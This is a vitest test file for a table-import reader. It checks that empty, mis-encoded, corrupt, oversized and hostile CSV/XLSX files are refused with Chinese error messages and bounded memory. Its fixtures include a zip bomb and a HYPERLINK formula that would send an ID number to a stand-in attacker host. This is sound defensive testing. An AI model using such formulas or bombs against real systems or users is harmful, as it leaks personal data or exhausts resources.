// Bad files at the door: every import reads through readTable, so each kind of broken or hostile
// file must end in an OutcomeError that names the file (and the row and column where there is
// one), in Chinese, with memory bounded — never a crash, a hang or silently changed text.
import { mkdtemp, open, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { OutcomeError } from '../policy/outcome.js';
import {
  buildZip,
  deflatedPart,
  repeatedDeflate,
  SHEET_HEAD,
  SHEET_TAIL,
  workbookParts,
} from '../test-support/zip-builder.js';
import { loadExcelJS } from './exceljs.js';
import { readTable, type Table } from './table-reader.js';
import { writeXlsx } from './table-writer.js';

const ExcelJS = await loadExcelJS();

const KNOWN = ['姓名', '身份证号码', '村(社区)', '联系电话'];
let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'canbao-bad-input-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function rows(table: Table): Promise<{ rowNumber: number; cells: Record<string, string> }[]> {
  const out = [];
  for await (const r of table) out.push({ rowNumber: r.rowNumber, cells: r.cells });
  return out;
}

/** Read the whole file; return the first issue of the OutcomeError it must throw. */
async function refusal(
  name: string,
  content: Buffer | string,
): Promise<{ expression: string; message: string }> {
  const path = join(dir, name);
  await writeFile(path, content);
  try {
    await rows(await readTable(path, { knownHeaders: KNOWN }));
  } catch (e) {
    expect(e).toBeInstanceOf(OutcomeError);
    const issue = (e as OutcomeError).issues[0]!;
    expect(issue.expression.startsWith(name)).toBe(true);
    expect(issue.message).toMatch(/[\u4e00-\u9fff]/);
    return issue;
  }
  throw new Error(`${name} was read without an error`);
}

const cell = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;
const HEADER_ROW = `<row r="1">${cell('A1', '姓名')}${cell('B1', '身份证号码')}</row>`;

describe('empty files', () => {
  it('a 0-byte CSV or XLSX is refused as empty', async () => {
    expect((await refusal('empty.csv', '')).message).toBe('文件是空的');
    expect((await refusal('empty.xlsx', '')).message).toMatch(/文件是空的（0 字节）/);
    expect((await refusal('blank-lines.csv', '\r\n,,\r\n\r\n')).message).toBe('文件是空的');
  });

  it('an XLSX whose first sheet is empty is refused as empty', async () => {
    const path = join(dir, 'no-rows.xlsx');
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('空表');
    await wb.xlsx.writeFile(path);
    expect((await refusal('no-rows.xlsx', await readFile(path))).message).toMatch(/第一个工作表没有内容/);
  });

  it('a header without data rows reads as a table with no rows (the import then reports 0 rows)', async () => {
    const path = join(dir, 'header-only.csv');
    await writeFile(path, '姓名,身份证号码,村(社区)\r\n');
    const t = await readTable(path, { knownHeaders: KNOWN });
    expect(t.headers).toEqual(['姓名', '身份证号码', '村(社区)']);
    expect(await rows(t)).toEqual([]);
  });
});

describe('encodings', () => {
  it('GBK rows after a UTF-8-looking (ASCII) first 64 KB are refused at the row and column', async () => {
    const filler = Array.from({ length: 3000 }, (_, i) => `Zhang${i},130802199001011234,Dongguan`);
    const gbkRow = iconv.encode('张三,130802199001011234,东关村\r\n', 'gbk');
    const content = Buffer.concat([
      Buffer.from(`姓名,身份证号码,村(社区)\r\n${filler.join('\r\n')}\r\n`),
      gbkRow,
    ]);
    const issue = await refusal('mixed.csv', content);
    expect(issue.expression).toBe('mixed.csv: 第 3002 行 “姓名”列');
    expect(issue.message).toMatch(/无法识别的字符.*UTF-8/);
  });

  it('a UTF-8 file with a broken byte (so read as GBK) is refused, naming the encoding', async () => {
    const content = Buffer.concat([
      Buffer.from('姓名,身份证号码\r\n张三,1\r\n'),
      Buffer.from([0xff, 0x0d, 0x0a]),
    ]);
    const issue = await refusal('broken-utf8.csv', content);
    expect(issue.message).toMatch(/无法识别的字符|没有找到表头/);
  });

  it('GBK is read as GBK, and UTF-16 with a BOM (LE and BE) or without one is read correctly', async () => {
    const text = '姓名\t身份证号码\r\n张三\t13080219900101123X\r\n';
    const cases: [string, Buffer][] = [
      ['gbk.csv', iconv.encode(text.replaceAll('\t', ','), 'gbk')],
      ['utf16le-bom.txt', Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(text, 'utf-16le')])],
      ['utf16be-bom.txt', Buffer.concat([Buffer.from([0xfe, 0xff]), iconv.encode(text, 'utf-16be')])],
      ['utf16le-nobom.txt', iconv.encode(`name\tid\r\n${text}`, 'utf-16le')],
    ];
    for (const [name, content] of cases) {
      const path = join(dir, name);
      await writeFile(path, content);
      const got = await rows(await readTable(path, { knownHeaders: KNOWN }));
      expect(got.at(-1)?.cells, name).toEqual({ 姓名: '张三', 身份证号码: '13080219900101123X' });
    }
  });

  it('binary garbage, or an .xlsx renamed to .csv, is refused as not text', async () => {
    const garbage = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 2654435761) >>> 24));
    expect((await refusal('garbage.csv', garbage)).message).toMatch(/二进制/);
    const xlsx = join(dir, 'real.xlsx');
    await writeXlsx(xlsx, '表', ['姓名', '身份证号码'], [['张三', '1']]);
    expect((await refusal('renamed.csv', await readFile(xlsx))).message).toMatch(/二进制/);
  });
});

describe('corrupt XLSX', () => {
  let good: Buffer;
  beforeAll(async () => {
    const path = join(dir, 'good.xlsx');
    await writeXlsx(path, '花名册', ['姓名', '身份证号码'], [['张三', '130802199001011234']]);
    good = await readFile(path);
  });

  it('cut in half, cut by one byte, random bytes and a plain zip are refused in Chinese', async () => {
    expect((await refusal('half.xlsx', good.subarray(0, good.length >> 1))).message).toMatch(
      /不是有效的 \.xlsx/,
    );
    expect((await refusal('short.xlsx', good.subarray(0, good.length - 1))).message).toMatch(
      /xlsx|损坏|截断/,
    );
    const random = Buffer.from(Array.from({ length: 5000 }, (_, i) => (i * 40503) & 0xff));
    expect((await refusal('random.xlsx', random)).message).toMatch(/不是有效的 \.xlsx/);
    const ole = Buffer.concat([
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
      Buffer.alloc(600),
    ]);
    expect((await refusal('encrypted.xlsx', ole)).message).toMatch(/加密的 Excel 文件或旧版 \.xls/);
    const many = buildZip(
      Array.from({ length: 10_001 }, (_, i) => ({ name: `xl/p${i}.xml`, data: Buffer.from('x') })),
    );
    expect((await refusal('many-parts.xlsx', many)).message).toMatch(/10001 个文件/);
    const zip = buildZip([deflatedPart('readme.txt', '这不是工作簿')]);
    expect((await refusal('plain.xlsx', zip)).message).toMatch(/不是 Excel 工作簿/);
  });

  it('a corrupted byte inside the compressed sheet, or malformed sheet XML, is refused', async () => {
    const sheet = deflatedPart('xl/worksheets/sheet1.xml', `${SHEET_HEAD}${HEADER_ROW}${SHEET_TAIL}`);
    sheet.data = Buffer.from(sheet.data);
    sheet.data.writeUInt16LE(sheet.data.readUInt16LE(3) ^ 0xffff, 3);
    const corrupted = await refusal('flipped.xlsx', buildZip(workbookParts(sheet)));
    expect(corrupted.message).toMatch(/损坏|无法读取/);
    const broken = deflatedPart(
      'xl/worksheets/sheet1.xml',
      `${SHEET_HEAD}<row r="1"><c r="A1" t="inlineStr"<<<`,
    );
    expect((await refusal('bad-xml.xlsx', buildZip(workbookParts(broken)))).message).toMatch(/无法读取 XLSX/);
  });

  it('a zip bomb (sheet XML inflating to 2.4 GB) is stopped at the limit with memory bounded', async () => {
    const unit = `<row>${cell('A2', 'A'.repeat(57))}</row>`.repeat(10_486);
    const data = repeatedDeflate(`${SHEET_HEAD}${HEADER_ROW}`, unit, 2048, SHEET_TAIL);
    const inflated = unit.length * 2048;
    expect(inflated).toBeGreaterThan(2 * 1024 ** 3);
    const rss = process.memoryUsage().rss;
    const started = performance.now();
    // Honest: the directory says 2.4 GB — refused before inflating anything.
    const honest = { name: 'xl/worksheets/sheet1.xml', data, method: 8 as const, size: inflated };
    expect((await refusal('bomb.xlsx', buildZip(workbookParts(honest)))).message).toMatch(/压缩炸弹/);
    // Lying: the directory says 100 MB — inflating stops as soon as it passes what was declared.
    const lying = { ...honest, size: 100 * 1024 ** 2 };
    expect((await refusal('lying-bomb.xlsx', buildZip(workbookParts(lying)))).message).toMatch(
      /比目录记载的大/,
    );
    // Lying within the budget is bounded by the budget as well (here the declared 4 GB - 1).
    const huge = { ...honest, size: 0xffff_ffff };
    expect((await refusal('huge-bomb.xlsx', buildZip(workbookParts(huge)))).message).toMatch(/压缩炸弹/);
    expect(performance.now() - started).toBeLessThan(10_000);
    expect(process.memoryUsage().rss - rss).toBeLessThan(300 * 1024 ** 2);
  });

  it('an XLSX cell longer than Excel allows is refused at its row and column', async () => {
    const sheet = `${SHEET_HEAD}${HEADER_ROW}<row r="2">${cell('A2', '张三')}${cell('B2', 'X'.repeat(40_000))}</row>${SHEET_TAIL}`;
    const issue = await refusal(
      'long-cell.xlsx',
      buildZip(workbookParts(deflatedPart('xl/worksheets/sheet1.xml', sheet))),
    );
    expect(issue.expression).toBe('long-cell.xlsx: 第 2 行 “身份证号码”列');
    expect(issue.message).toMatch(/单元格过长/);
  });
});

describe('oversized CSV cells', () => {
  it('a 100 MB single cell (quoted or not) is refused early with memory bounded', async () => {
    for (const [name, quote] of [
      ['huge-quoted.csv', '"'],
      ['huge-bare.csv', ''],
    ] as const) {
      const path = join(dir, name);
      const fh = await open(path, 'w');
      await fh.write(`姓名,身份证号码\r\n张三,${quote}`);
      const mb = Buffer.alloc(1024 * 1024, 'A');
      for (let i = 0; i < 100; i++) await fh.write(mb);
      await fh.write(`${quote}\r\n`);
      await fh.close();
      const rss = process.memoryUsage().rss;
      const started = performance.now();
      const error = await (async () => rows(await readTable(path, { knownHeaders: KNOWN })))().catch(
        (e: unknown) => e,
      );
      expect(error).toBeInstanceOf(OutcomeError);
      const issue = (error as OutcomeError).issues[0]!;
      expect(issue.expression).toBe(`${name}: 第 2 行 “身份证号码”列`);
      expect(issue.message).toMatch(/单元格过长（超过 32767 个字符/);
      expect(performance.now() - started).toBeLessThan(2000);
      expect(process.memoryUsage().rss - rss).toBeLessThan(64 * 1024 ** 2);
      await rm(path);
    }
  });

  it('an unclosed quote that swallows the rest of a large file is refused, not read as one cell', async () => {
    const body = Array.from({ length: 20_000 }, (_, i) => `人${i},130802199001011234`).join('\r\n');
    const issue = await refusal('unclosed.csv', `姓名,身份证号码\r\n"张三,1\r\n${body}\r\n`);
    expect(issue.expression).toBe('unclosed.csv: 第 2 行 “姓名”列');
  });

  it('a cell of exactly 32767 characters is still read', async () => {
    const path = join(dir, 'max-cell.csv');
    await writeFile(path, `姓名,身份证号码\r\n${'张'.repeat(32_767)},1\r\n`);
    const got = await rows(await readTable(path, { knownHeaders: KNOWN }));
    expect(got[0]?.cells.姓名).toHaveLength(32_767);
  });
});

describe('formulas in XLSX cells', () => {
  it('reads the cached value, never the formula, and never evaluates it', async () => {
    const path = join(dir, 'formulas.xlsx');
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('花名册');
    ws.addRow(['姓名', '身份证号码', '联系电话']);
    ws.addRow([
      { formula: 'HYPERLINK("http://evil.example/?d="&B2,"张三")', result: '张三' },
      { formula: '"13080219900101"&"1234"', result: '130802199001011234' },
      { formula: '1+1', result: 2 },
    ]);
    // No cached value (a file written by a program that never calculated): an empty cell.
    ws.addRow(['李四', { formula: 'CONCATENATE("1308","02")' }, { formula: '=1+1' }]);
    await wb.xlsx.writeFile(path);
    const got = await rows(await readTable(path, { knownHeaders: KNOWN }));
    expect(got).toEqual([
      { rowNumber: 2, cells: { 姓名: '张三', 身份证号码: '130802199001011234', 联系电话: '2' } },
      { rowNumber: 3, cells: { 姓名: '李四', 身份证号码: '', 联系电话: '' } },
    ]);
  });

  it('a CSV cell "=1+1" is text, as written', async () => {
    const path = join(dir, 'formula.csv');
    await writeFile(path, '姓名,身份证号码\r\n=HYPERLINK("http://x"),=1+1\r\n');
    expect((await rows(await readTable(path, { knownHeaders: KNOWN })))[0]?.cells).toEqual({
      姓名: '=HYPERLINK("http://x")',
      身份证号码: '=1+1',
    });
  });
});
